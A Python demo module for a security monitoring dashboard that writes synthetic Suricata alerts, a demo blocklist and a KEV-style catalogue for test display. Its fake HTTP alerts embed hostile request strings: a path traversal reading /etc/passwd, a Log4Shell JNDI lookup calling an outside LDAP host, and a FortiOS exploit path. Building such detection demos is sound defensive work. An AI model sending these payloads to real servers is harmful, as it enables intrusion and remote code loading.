"""The bundled demo: realistic Suricata EVE alerts written to a file that the real tailer reads.

Nothing here bypasses the real path. The writer appends EVE lines to the file named by the
enabled ``demo: true`` tail source, writes a small plain-list blocklist to the file of the enabled
``demo: true`` ``lines`` source, and a short catalogue in CISA's KEV JSON shape to the file of the
enabled ``demo: true`` ``kev`` source; all of them then go through the real parsers, pipeline and store.
The KEV entries are real catalogue entries for products the example inventory runs, so the
Exposure page and the known-exploited score have something true to show.
Targets come from ``config/assets.yaml``; attackers are public addresses from many countries
(sampled once from the embedded GeoIP database, so their countries are real), a few of them
listed on the demo blocklist.
"""
from __future__ import annotations

import ipaddress
import json
import math
import random
import threading
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from pathlib import Path

from collectors.transports import resolve_path
from settings.inventory import Asset, Inventory, Site, Zone
from settings.loader import Config

BANGKOK = timezone(timedelta(hours=7))
#: Real KEV entries (CVE, vendor, product, name, date added, ransomware use) for products that
#: config/assets.yaml runs: the demo's exposure findings are true of those versions' vendors.
DEMO_KEV = (
    ("CVE-2023-46805", "Ivanti", "Connect Secure and Policy Secure", "Ivanti Connect Secure and Policy Secure "
     "Authentication Bypass Vulnerability", "2024-01-10", "Known"),
    ("CVE-2024-21887", "Ivanti", "Connect Secure and Policy Secure", "Ivanti Connect Secure and Policy Secure "
     "Command Injection Vulnerability", "2024-01-10", "Known"),
    ("CVE-2023-4966", "Citrix", "NetScaler ADC and NetScaler Gateway", "Citrix NetScaler ADC and NetScaler Gateway "
     "Buffer Overflow Vulnerability", "2023-10-18", "Known"),
    ("CVE-2022-42475", "Fortinet", "FortiOS", "Fortinet FortiOS Heap-Based Buffer Overflow Vulnerability",
     "2022-12-13", "Unknown"),
    ("CVE-2021-41773", "Apache", "HTTP Server", "Apache HTTP Server Path Traversal Vulnerability", "2021-11-03",
     "Known"),
)
# Where attack traffic against Thai infrastructure is commonly reported from; weights shape the map.
ATTACKER_COUNTRIES = {
    "CN": 18, "RU": 14, "US": 10, "KP": 2, "IR": 6, "VN": 7, "BR": 5, "NL": 6, "DE": 4, "IN": 6,
    "KR": 4, "ID": 5, "UA": 3, "RO": 3, "TR": 3, "HK": 4, "SG": 3, "FR": 2, "GB": 2, "NG": 2,
}
BLOCKLISTED_SHARE = 0.15
WIDE_SCANNER_SHARE = 0.3


@dataclass(frozen=True)
class Signature:
    sid: int
    name: str
    category: str
    severity: int
    proto: str
    ports: tuple[int, ...]
    app_proto: str | None = None
    ics: dict | None = None
    ot_only: bool = False
    weight: int = 10


SIGNATURES: tuple[Signature, ...] = (
    Signature(2001219, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2, "TCP", (22,), weight=30),
    Signature(2010935, "ET SCAN Suspicious inbound to MSSQL port 1433", "Potentially Bad Traffic", 2, "TCP", (1433,), weight=14),
    Signature(2024364, "ET SCAN Possible Nmap User-Agent Observed", "Web Application Attack", 1, "TCP", (80, 443), "http", weight=16),
    Signature(2019876, "ET SCAN SSH BruteForce Tool with fake PUTTY version", "Attempted Administrator Privilege Gain", 2, "TCP", (22,), weight=14),
    Signature(2001569, "ET SCAN Behavioral Unusual Port 445 traffic Potential Scan or Infection", "Misc activity", 3, "TCP", (445,), weight=12),
    Signature(2034125, "ET EXPLOIT Apache HTTP Server 2.4.49 Path Traversal (CVE-2021-41773)", "Attempted Administrator Privilege Gain", 1, "TCP", (80, 443), "http", weight=6),
    Signature(2034647, "ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)", "Attempted Administrator Privilege Gain", 1, "TCP", (80, 443, 8080), "http", weight=6),
    Signature(2037774, "ET EXPLOIT Fortinet FortiOS SSL VPN Path Traversal (CVE-2018-13379)", "Attempted Administrator Privilege Gain", 1, "TCP", (443, 10443), "http", weight=4),
    Signature(2047621, "ET EXPLOIT Citrix NetScaler ADC Information Disclosure (CVE-2023-4966)", "Attempted Information Leak", 1, "TCP", (443,), "http", weight=4),
    Signature(2027865, "ET POLICY RDP connection attempt from external network", "Misc activity", 3, "TCP", (3389,), weight=10),
    Signature(9100001, "ET SCADA Modbus Write Multiple Registers from external host", "Attempted Administrator Privilege Gain", 1, "TCP", (502,), "modbus",
              {"modbus": {"request": {"function_raw": 16, "function_code": "WriteMultipleRegisters", "access_type": "WRITE|HOLDING", "unit_id": 1}}}, ot_only=True, weight=3),
    Signature(9100002, "ET SCADA DNP3 Cold Restart request", "Attempted Denial of Service", 1, "TCP", (20000,), "dnp3",
              {"dnp3": {"type": "request", "application": {"function_code": 13}}}, ot_only=True, weight=2),
    # Suricata has no S7comm parser: this one is known only by its rule, as in real deployments.
    Signature(9100003, "ET SCADA Siemens S7comm Stop CPU request", "Attempted Denial of Service", 1, "TCP", (102,),
              ot_only=True, weight=2),
    Signature(9100004, "ET SCADA Modbus Read Device Identification scan", "Attempted Information Leak", 2, "TCP", (502,), "modbus",
              {"modbus": {"request": {"function_raw": 43, "function_code": "EncapsulatedInterfaceTransport", "unit_id": 0}}}, ot_only=True, weight=5),
)


@dataclass(frozen=True)
class Attacker:
    """One attacking host and its campaign: the few signatures it trips and the sites it goes after.

    Real attackers repeat themselves, so the demo's incidents gather many events each; a third of
    them are wide scanners that touch every site.
    """

    ip: str
    country: str
    blocklisted: bool
    signatures: tuple[Signature, ...]
    site_ids: tuple[str, ...]  # empty: a wide scanner


class DemoWriter:
    """Appends demo EVE lines for the time that passed since the last call; thread-safe."""

    def __init__(self, config: Config, data_dir: Path, *, seed: int | None = None):
        self.config = config
        self.eve_path, self.blocklist_path, self.kev_path = demo_paths(config, data_dir)
        self.rng = random.Random(seed if seed is not None else config.settings.demo.seed)
        self.rate_per_minute = config.settings.demo.events_per_minute
        self._lock = threading.Lock()
        self._last: datetime | None = None
        self._flow_id = self.rng.randrange(10**14, 10**15)
        self.targets = _targets(config.inventory)
        self.attackers = _sample_attackers(self.rng, [site.id for site in config.inventory.sites])

    def write_blocklist(self) -> None:
        if self.blocklist_path is None:
            return
        listed = [a for a in self.attackers if a.blocklisted]
        lines = ["# watchfloor demo blocklist: compromised hosts seen attacking critical infrastructure",
                 "# one IPv4 address per line, same shape as the Emerging Threats compromised-ips list"]
        lines += [a.ip for a in listed]
        self.blocklist_path.parent.mkdir(parents=True, exist_ok=True)
        temporary = self.blocklist_path.with_suffix(".tmp")
        temporary.write_text("\n".join(lines) + "\n", encoding="utf-8")
        temporary.replace(self.blocklist_path)

    def write_kev(self) -> None:
        if self.kev_path is None:
            return
        catalogue = {
            "title": "watchfloor demo: a few entries of the CISA Known Exploited Vulnerabilities catalogue",
            "catalogVersion": "demo", "count": len(DEMO_KEV),
            "vulnerabilities": [
                {"cveID": cve, "vendorProject": vendor, "product": product, "vulnerabilityName": name,
                 "dateAdded": added, "shortDescription": name, "knownRansomwareCampaignUse": ransomware}
                for cve, vendor, product, name, added, ransomware in DEMO_KEV
            ],
        }
        self.kev_path.parent.mkdir(parents=True, exist_ok=True)
        temporary = self.kev_path.with_suffix(".tmp")
        temporary.write_text(json.dumps(catalogue, indent=1) + "\n", encoding="utf-8")
        temporary.replace(self.kev_path)

    def tick(self, now: datetime | None = None) -> int:
        """Write the lines due since the previous tick (a day of history on the very first one)."""
        now = now or datetime.now(timezone.utc)
        if self.eve_path is None:
            return 0
        with self._lock:
            if self._last is None:
                self.write_blocklist()
                self.write_kev()
                fresh = not self.eve_path.exists() or self.eve_path.stat().st_size == 0
                backfill = self.config.settings.demo.backfill if fresh else timedelta(0)
                self._last = now - backfill
            lines = self._lines(self._last, now)
            self._last = now
            if lines:
                self.eve_path.parent.mkdir(parents=True, exist_ok=True)
                with self.eve_path.open("a", encoding="utf-8") as handle:
                    handle.write("".join(lines))
            return len(lines)

    def _lines(self, start: datetime, end: datetime) -> list[str]:
        seconds = (end - start).total_seconds()
        if seconds <= 0 or not self.targets:
            return []
        minutes = seconds / 60
        whole = int(minutes)
        expected = sum(self._rate_at(start + timedelta(minutes=m)) for m in range(whole))
        expected += self._rate_at(end) * (minutes - whole)
        count = max(int(self.rng.gauss(expected, expected ** 0.5 + 0.5)), 0)
        moments = sorted(start + timedelta(seconds=self.rng.uniform(0, seconds)) for _ in range(count))
        return [self._line(moment) for moment in moments]

    def _rate_at(self, moment: datetime) -> float:
        """Events per minute: busier in the Bangkok working day, quieter at night, as real sensors see."""
        hour = moment.astimezone(BANGKOK).hour + moment.minute / 60
        daylight = 0.5 + 0.5 * max(0.0, math.sin((hour - 6) / 16 * math.pi))
        return self.rate_per_minute * daylight

    def _line(self, moment: datetime) -> str:
        attacker = self.rng.choices(self.attackers, weights=[3 if a.blocklisted else 1 for a in self.attackers])[0]
        signature = self.rng.choice(attacker.signatures)
        site, zone, asset, dst_ip = self._target(signature, attacker.site_ids)
        self._flow_id += self.rng.randrange(1, 5000)
        record: dict = {
            "timestamp": moment.astimezone(BANGKOK).strftime("%Y-%m-%dT%H:%M:%S.%f%z"),
            "flow_id": self._flow_id,
            "in_iface": "eth1",
            "event_type": "alert",
            "src_ip": attacker.ip,
            "src_port": self.rng.randrange(1024, 65535),
            "dest_ip": dst_ip,
            "dest_port": self.rng.choice(signature.ports),
            "proto": signature.proto,
        }
        if signature.app_proto:
            record["app_proto"] = signature.app_proto
        record["alert"] = {
            "action": "allowed", "gid": 1, "signature_id": signature.sid, "rev": 3,
            "signature": signature.name, "category": signature.category, "severity": signature.severity,
        }
        if signature.app_proto == "http":
            record["http"] = {"hostname": dst_ip, "url": self.rng.choice(
                ["/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", "/?x=${jndi:ldap://203.0.113.99/a}", "/remote/fgt_lang",
                 "/oauth/idp/.well-known/openid-configuration", "/"]),
                "http_user_agent": self.rng.choice(["Mozilla/5.0 zgrab/0.x", "Nmap Scripting Engine", "curl/8.4.0"]),
                "http_method": "GET", "protocol": "HTTP/1.1"}
        if signature.ics:
            record.update(signature.ics)
        record["host"] = f"demo-sensor-{site.id}"
        return json.dumps(record, separators=(",", ":")) + "\n"

    def _target(self, signature: Signature, site_ids: tuple[str, ...]) -> tuple[Site, Zone, Asset | None, str]:
        candidates = [t for t in self.targets if (t[1].kind == "OT") == signature.ot_only] or self.targets
        if site_ids:
            candidates = [t for t in candidates if t[0].id in site_ids] or candidates
        site, zone, asset = self.rng.choice(candidates)
        if asset is not None and asset.ip:
            return site, zone, asset, asset.ip
        network = ipaddress.ip_network(zone.networks[0])
        host = network.network_address + self.rng.randrange(1, min(network.num_addresses - 1, 65000))
        return site, zone, None, str(host)


def demo_paths(config: Config, data_dir: Path) -> tuple[Path | None, Path | None, Path | None]:
    """The files the demo writes (EVE log, blocklist, KEV catalogue): those its enabled ``demo: true``
    sources read."""
    eve = blocklist = kev = None
    for source in config.enabled_sources:
        if not source.demo:
            continue
        if source.source.type == "tail" and eve is None:
            eve = resolve_path(source.source.path, data_dir)
        elif source.source.type == "file" and source.format == "lines" and blocklist is None:
            blocklist = resolve_path(source.source.path, data_dir)
        elif source.source.type == "file" and source.format == "kev" and kev is None:
            kev = resolve_path(source.source.path, data_dir)
    return eve, blocklist, kev


def _targets(inventory: Inventory) -> list[tuple[Site, Zone, Asset | None]]:
    targets: list[tuple[Site, Zone, Asset | None]] = []
    for site in inventory.sites:
        zones = {z.name: z for z in site.zones}
        for zone in site.zones:
            targets.append((site, zone, None))
        for asset in site.assets:
            if asset.ip and asset.zone in zones:
                targets.append((site, zones[asset.zone], asset))
    return targets


def _sample_attackers(rng: random.Random, site_ids: list[str], wanted: int = 160) -> list[Attacker]:
    """Draw public addresses until every attacker country has a few, using the embedded GeoIP data."""
    from pipeline.geoip import GeoIP  # the same lookup the pipeline uses, so countries agree

    geoip = GeoIP()

    per_country = {code: max(1, round(weight * wanted / sum(ATTACKER_COUNTRIES.values())))
                   for code, weight in ATTACKER_COUNTRIES.items()}
    found: dict[str, list[str]] = {code: [] for code in per_country}
    for _ in range(60000):
        if all(len(found[c]) >= n for c, n in per_country.items()):
            break
        address = ipaddress.IPv4Address(rng.randrange(1 << 24, 224 << 24))
        if not address.is_global:
            continue
        country = geoip.lookup(str(address)).country
        if country in found and len(found[country]) < per_country[country]:
            found[country].append(str(address))
    weights = [s.weight for s in SIGNATURES]
    attackers = []
    for country, ips in found.items():
        for ip in ips:
            picked = rng.choices(SIGNATURES, weights=weights, k=rng.randint(1, 3))
            signatures = tuple({s.sid: s for s in picked}.values())
            wide = rng.random() < WIDE_SCANNER_SHARE or not site_ids
            sites = () if wide else tuple(rng.sample(site_ids, k=min(len(site_ids), rng.randint(1, 2))))
            attackers.append(Attacker(ip, country, rng.random() < BLOCKLISTED_SHARE, signatures, sites))
    rng.shuffle(attackers)
    return attackers
